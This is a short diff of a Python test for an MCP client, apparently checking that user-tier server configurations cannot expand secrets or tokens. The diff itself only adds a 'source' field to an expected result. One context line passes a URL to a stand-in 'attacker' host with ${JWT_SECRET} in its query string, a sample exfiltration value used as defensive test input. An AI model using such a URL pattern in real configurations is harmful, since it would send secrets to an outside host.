@@ -62,7 +62,7 @@ def test_user_tier_rules():
         mcpclient.resolve_server({"url": "http://attacker/?k=${JWT_SECRET}"}, tier="user")
     prepared = mcpclient.prepare_server(
         {"url": "https://x", "timeout": 5, "headers": {"A": "Bearer {{LIBRECHAT_OPENID_TOKEN}}"}}, tier="user")
-    assert prepared.server == {"url": "https://x", "headers": {"A": "Bearer "}, "trusted": False}
+    assert prepared.server == {"url": "https://x", "headers": {"A": "Bearer "}, "trusted": False, "source": {"tier": "user"}}
     assert len(prepared.warnings) == 2
 
 
